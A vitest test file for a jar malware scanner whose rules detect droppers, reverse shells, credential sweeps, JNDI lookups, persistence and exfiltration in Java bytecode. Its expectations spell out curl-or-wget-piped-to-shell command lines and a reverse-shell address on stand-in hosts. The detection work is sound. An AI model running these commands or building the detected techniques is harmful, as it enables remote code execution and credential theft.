import { describe, expect, it } from 'vitest';
import { fixtureJar, hasJavac, scanBytes } from './helpers.js';

const JDK = hasJavac();
if (!JDK) console.warn('test/maven/rules: javac not found, skipping bytecode rule tests (install a JDK 17)');

const jar = (pkgs: string[], extra?: Record<string, string | Buffer>) =>
  scanBytes('fixture-1.0.jar', fixtureJar(pkgs, extra));

describe.skipIf(!JDK)('JAVA rules over compiled fixtures', () => {
  it('JAVA-001 names the shell technique of Runtime.exec in a static initializer', async () => {
    const r = await jar(['fx/execpos']);
    const [f] = r.rule('JAVA-001');
    expect(f).toBeDefined();
    expect(f!.category).toBe('dropper');
    expect(f!.context).toBe('import');
    expect(f!.file).toBe('fx/execpos/Init.class');
    expect(f!.line).toBeGreaterThan(0);
    expect(f!.snippet).toContain('fx/execpos/Init.<clinit>: Runtime.exec(');
    expect(f!.message).toMatch(/curl/);
    expect(r.verdict.verdict).toBe('malicious');
  });

  it('JAVA-001 rates a fixed helper command in a normal method low (clean verdict)', async () => {
    const r = await jar(['fx/execneg']);
    const [f] = r.rule('JAVA-001');
    expect(f?.severity).toBe('low');
    expect(f?.context).toBe('runtime');
    expect(r.verdict.verdict).toBe('clean');
  });

  it('JAVA-002 records network access with its target; nothing for code without network', async () => {
    const r = await jar(['fx/net']);
    expect(r.rule('JAVA-002')[0]?.evidence?.target).toBe('https://api.example.invalid/v1/data');
    expect((await jar(['fx/execneg'])).rule('JAVA-002')).toHaveLength(0);
  });

  it('JAVA-003 flags defineClass of Base64-decoded bytes, not of caller-supplied bytes', async () => {
    const pos = (await jar(['fx/classload'])).rule('JAVA-003');
    expect(pos[0]?.severity).toBe('high');
    expect(pos[0]?.category).toBe('dropper');
    const neg = (await jar(['fx/classloadneg'])).rule('JAVA-003');
    expect(neg[0]?.severity).toBe('low');
  });

  it('JAVA-004 resolves a Base64-hidden class name; configured names are not reported', async () => {
    const pos = (await jar(['fx/reflect'])).rule('JAVA-004');
    expect(pos.some((f) => f.evidence?.resolved === 'java.lang.Runtime' && f.severity === 'high')).toBe(true);
    expect((await jar(['fx/reflectneg'])).rule('JAVA-004')).toHaveLength(0);
  });

  it('JAVA-001 sees Runtime.exec reached through reflection', async () => {
    const r = await jar(['fx/reflect']);
    expect(r.rule('JAVA-001').some((f) => /reflection/.test(f.message))).toBe(true);
  });

  it('JAVA-005 flags System.getenv() and secret variables, not HOME', async () => {
    const pos = (await jar(['fx/env'])).rule('JAVA-005');
    expect(pos.map((f) => f.evidence?.variable).sort()).toEqual(['*', 'GITHUB_TOKEN']);
    expect((await jar(['fx/envneg'])).rule('JAVA-005')).toHaveLength(0);
  });

  it('JAVA-006 flags a sweep of credential files; an SSH library reading known_hosts stays low', async () => {
    const pos = (await jar(['fx/creds'])).rule('JAVA-006');
    expect(pos[0]?.severity).toBe('high');
    expect(pos[0]?.evidence?.secrets).toEqual(
      expect.arrayContaining(['SSH keys', 'AWS credentials', 'package registry credentials']),
    );
    const neg = (await jar(['fx/ssh'])).rule('JAVA-006');
    expect(neg[0]?.severity).toBe('low');
  });

  it('JAVA-007 flags a remote ldap: lookup; java:comp and parameter names are fine', async () => {
    const r = await jar(['fx/jndi']);
    const [f] = r.rule('JAVA-007');
    expect(f?.category).toBe('backdoor');
    expect(f?.message).toContain('encoded command: `id`');
    expect(r.verdict.verdict).toBe('malicious');
    expect((await jar(['fx/jndineg'])).rule('JAVA-007')).toHaveLength(0);
  });

  it('JAVA-008 rates System.load of a downloaded library high and loadLibrary informational', async () => {
    const fs = (await jar(['fx/nativeload'])).rule('JAVA-008');
    expect(fs.find((f) => f.evidence?.library === undefined)?.severity).toBe('high');
    expect(fs.find((f) => f.evidence?.library === 'fxnative')?.severity).toBe('info');
  });

  it('JAVA-009 records Unsafe raw memory writes; ordinary code has none', async () => {
    expect((await jar(['fx/unsafe'])).rule('JAVA-009')).toHaveLength(1);
    expect((await jar(['fx/net'])).rule('JAVA-009')).toHaveLength(0);
  });

  it('JAVA-010 flags download + chmod + run in a static initializer; a plain download cache is fine', async () => {
    const r = await jar(['fx/dropper']);
    const [f] = r.rule('JAVA-010');
    expect(f?.iocs).toEqual(['http://192.0.2.1/update.bin']);
    expect(f?.context).toBe('import');
    expect(r.verdict.verdict).toBe('malicious');
    expect((await jar(['fx/dropperneg'])).rule('JAVA-010')).toHaveLength(0);
  });

  it('JAVA-011 follows file contents through Base64 into a URL; printing a file is fine', async () => {
    const [f] = (await jar(['fx/exfil'])).rule('JAVA-011');
    expect(f?.severity).toBe('high');
    expect(f?.evidence?.taint).toEqual(expect.arrayContaining(['file', 'encoded']));
    expect((await jar(['fx/exfilneg'])).rule('JAVA-011')).toHaveLength(0);
  });

  it('JAVA-012 flags an XOR string decryptor fed constants; a keyed mask over parameters is fine', async () => {
    const r = await jar(['fx/decrypt']);
    const [f] = r.rule('JAVA-012');
    expect(f?.message).toMatch(/fx\.decrypt\.S\.d decrypts literal strings/);
    expect(f?.severity).toBe('high');
    expect((await jar(['fx/decryptneg'])).rule('JAVA-012')).toHaveLength(0);
  });

  it('JAVA-014 flags a long random Base64 constant, not encoded text', async () => {
    expect((await jar(['fx/blob'])).rule('JAVA-014')).toHaveLength(1);
    expect((await jar(['fx/blobneg'])).rule('JAVA-014')).toHaveLength(0);
  });

  it('Spring auto-configuration runs its constructor and what it calls at import time', async () => {
    const r = await jar(['fx/spring'], {
      'META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports':
        'fx.spring.EvilAutoConfiguration\n',
    });
    const [exec] = r.rule('JAVA-001');
    expect(exec?.context).toBe('import');
    expect(exec?.evidence?.runs).toMatch(/called from EvilAutoConfiguration.<init>/);
    expect(r.rule('JAVA-015')[0]?.message).toMatch(/Spring Boot auto-configuration/);
    expect(r.verdict.verdict).toBe('malicious');
    // without the registration the same code only runs when called
    const plain = await jar(['fx/spring']);
    expect(plain.rule('JAVA-001')[0]?.context).toBe('runtime');
  });

  it('JAVA-015 and contexts: Premain-Class runs at startup', async () => {
    const r = await jar(['fx/agent'], {
      'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\r\nPremain-Class: fx.agent.Agent\r\n\r\n',
    });
    expect(r.rule('JAVA-001')[0]?.context).toBe('startup');
    expect(r.rule('JAVA-015')[0]?.evidence?.role).toBe('agent');
  });

  it('resolves StringBuilder-built commands and propagates <clinit> context to helpers', async () => {
    const r = await jar(['fx/chain']);
    const [f] = r.rule('JAVA-001');
    expect(f?.evidence?.command).toBe('bash -c curl http://192.0.2.1/p | bash');
    expect(f?.context).toBe('import');
    expect(f?.snippet).toMatch(/^fx\/chain\/Lib\.init: /);
  });
});

describe('JAVA rules without a JDK', () => {
  it('JAVA-013 flags a jar of renamed classes unless it ships a ProGuard mapping', async () => {
    const { classBytes } = await import('./classgen.js');
    const names = 'abcdefghijklmn'.split('');
    const entries: Record<string, Buffer> = {};
    for (const n of names) entries[`a/${n}.class`] = classBytes(`a/${n}`, ['a', 'b', 'c']);
    const { makeZip } = await import('./helpers.js');
    const zip = makeZip(Object.entries(entries));
    const r = await scanBytes('x-1.0.jar', zip);
    expect(r.rule('JAVA-013')).toHaveLength(1);
    const declared = makeZip([...Object.entries(entries), ['META-INF/proguard/mapping.txt', 'a -> a']]);
    expect((await scanBytes('x-1.0.jar', declared)).rule('JAVA-013')).toHaveLength(0);
    const readable: Record<string, Buffer> = {};
    for (const n of names)
      readable[`org/x/Service${n}.class`] = classBytes(`org/x/Service${n}`, ['start', 'stop', 'b']);
    expect((await scanBytes('x-1.0.jar', makeZip(Object.entries(readable)))).rule('JAVA-013')).toHaveLength(
      0,
    );
  });

  it('JAVA-019 reports a .class that is not a class file and a truncated class', async () => {
    const { classBytes } = await import('./classgen.js');
    const { makeZip } = await import('./helpers.js');
    const good = classBytes('ok/A', ['run']);
    const zip = makeZip([
      ['ok/A.class', good],
      ['evil/B.class', Buffer.from('not a class at all, encrypted payload')],
      ['evil/C.class', good.subarray(0, 40)],
    ]);
    const r = await scanBytes('x-1.0.jar', zip);
    const files = r
      .rule('JAVA-019')
      .map((f) => f.file)
      .sort();
    expect(files).toEqual(['evil/B.class', 'evil/C.class']);
    const clean = await scanBytes('x-1.0.jar', makeZip([['ok/A.class', good]]));
    expect(clean.rule('JAVA-019')).toHaveLength(0);
  });
});

describe.skipIf(!JDK)('string decryption folding', () => {
  it('folds an XOR decryptor on its literal arguments and feeds the plain text to the rules', async () => {
    const r = await jar(['fx/decrypt']);
    const reflect = r.rule('JAVA-004').find((f) => f.evidence?.resolved === 'java.lang.Runtime');
    expect(reflect?.severity).toBe('high');
    const ioc = r.rule('NET-001').find((f) => f.iocs?.[0] === 'http://192.0.2.1/k');
    expect(ioc?.evidence?.decodedFrom).toBe('decrypt');
  });
});

describe('language idioms', () => {
  it('Groovy: "cmd".execute() through a dynamic call site is JAVA-001; call sites without execute are not', async () => {
    const { classBytes } = await import('./classgen.js');
    const { makeZip } = await import('./helpers.js');
    const groovy = (names: string[]) =>
      classBytes('g/Script1', [], [], 'strings', ['groovy/lang/GroovyObject'], {
        $createCallSiteArray_1: names,
        run: ['curl -s http://192.0.2.1/g | sh'],
      });
    const r = await scanBytes('g-1.jar', makeZip([['g/Script1.class', groovy(['execute', 'println'])]]));
    const [f] = r.rule('JAVA-001');
    expect(f?.evidence?.language).toBe('groovy');
    expect(f?.category).toBe('dropper');
    const neg = await scanBytes('g-1.jar', makeZip([['g/Script1.class', groovy(['println', 'each'])]]));
    expect(neg.rule('JAVA-001')).toHaveLength(0);
  });
});

describe.skipIf(!JDK)('method handles', () => {
  it('JAVA-004: MethodHandles.Lookup.findStatic of Runtime.getRuntime', async () => {
    const r = await jar(['fx/handles']);
    expect(r.rule('JAVA-004')[0]?.evidence?.resolved).toBe('java.lang.Runtime.getRuntime');
    expect((await jar(['fx/net'])).rule('JAVA-004')).toHaveLength(0);
  });
});

describe.skipIf(!JDK)('process execution idioms', () => {
  it('rundll32 url.dll,FileProtocolHandler (open a browser) is rated as a plain process start', async () => {
    const [f] = (await jar(['fx/browser'])).rule('JAVA-001');
    expect(f?.severity).toBe('low');
    expect(f?.category).toBe('execution');
  });
});

describe.skipIf(!JDK)('backdoors, persistence, miners', () => {
  it('JAVA-020 flags a socket wired to /bin/sh in a static initializer; separate client/tool methods are fine', async () => {
    const r = await jar(['fx/rshell']);
    const [f] = r.rule('JAVA-020');
    expect(f?.severity).toBe('high');
    expect(f?.iocs).toEqual(['192.0.2.1:4444']);
    expect(r.verdict.verdict).toBe('malicious');
    expect((await jar(['fx/rshellneg'])).rule('JAVA-020')).toHaveLength(0);
  });

  it('JAVA-021 flags appending to ~/.bashrc; a string that only mentions .bashrc is fine', async () => {
    const [f] = (await jar(['fx/persist'])).rule('JAVA-021');
    expect(f?.category).toBe('persistence');
    expect((await jar(['fx/persistneg'])).rule('JAVA-021')).toHaveLength(0);
  });

  it('JAVA-021 flags miner configuration', async () => {
    const fs = (await jar(['fx/miner'])).rule('JAVA-021');
    expect(fs.map((f) => f.category)).toContain('miner');
  });
});

describe.skipIf(!JDK)('beacons', () => {
  it('JAVA-011 reports host facts sent from a static initializer as recon; the verdict is malicious', async () => {
    const r = await jar(['fx/beacon']);
    const f = r.rule('JAVA-011').find((x) => x.category === 'recon');
    expect(f?.context).toBe('import');
    expect(r.verdict.verdict).toBe('malicious');
  });
});

describe.skipIf(!JDK)('build-time code', () => {
  it('a Maven plugin goal that reads ~/.m2/settings.xml and sends it runs at install and is malicious', async () => {
    const r = await jar(['fx/mojo'], {
      'META-INF/maven/plugin.xml':
        '<plugin><mojos><mojo><goal>steal</goal><implementation>fx.mojo.Steal</implementation></mojo></mojos></plugin>',
    });
    const [cred] = r.rule('JAVA-006');
    expect(cred?.context).toBe('install');
    expect(cred?.evidence?.secrets).toContain('package registry credentials');
    expect(r.verdict.verdict).toBe('malicious');
    expect(r.rule('JAVA-015')[0]?.evidence?.role).toBe('mojo');
  });
});

describe.skipIf(!JDK)('exfiltration sinks', () => {
  it('JAVA-011: the environment written into a URL connection stream is exfiltration; println to the console is not', async () => {
    const fs = (await jar(['fx/post'])).rule('JAVA-011');
    expect(fs).toHaveLength(1);
    expect(fs[0]?.evidence?.sink).toBe('java/io/OutputStream.write');
    expect(fs[0]?.snippet).toMatch(/fx\/post\/Post\.send: /);
  });
});

describe.skipIf(!JDK)('script evaluation', () => {
  it('JAVA-022: a Base64-decoded script evaluated in <clinit> is high; a caller-supplied rule is low', async () => {
    const [f] = (await jar(['fx/script'])).rule('JAVA-022');
    expect(f?.severity).toBe('high');
    expect(f?.context).toBe('import');
    const [g] = (await jar(['fx/scriptneg'])).rule('JAVA-022');
    expect(g?.severity).toBe('low');
  });
});

describe.skipIf(!JDK)('command lines through collections', () => {
  it('JAVA-001 reads ProcessBuilder(List.of(...)) command lines', async () => {
    const r = await jar(['fx/listcmd']);
    const f = r.rule('JAVA-001').find((x) => x.file === 'fx/listcmd/L.class');
    expect(f?.category).toBe('dropper');
    expect(f?.evidence?.command).toBe('sh -c curl -s http://192.0.2.1/l | sh');
    expect(r.verdict.verdict).toBe('malicious');
    // an ArrayList is not modelled: the method's own dangerous command line is reported
    const a = r.rule('JAVA-001').find((x) => x.file === 'fx/listcmd/A.class');
    expect(a?.evidence?.command).toBe('wget -qO- http://192.0.2.1/a | bash');
  });
});
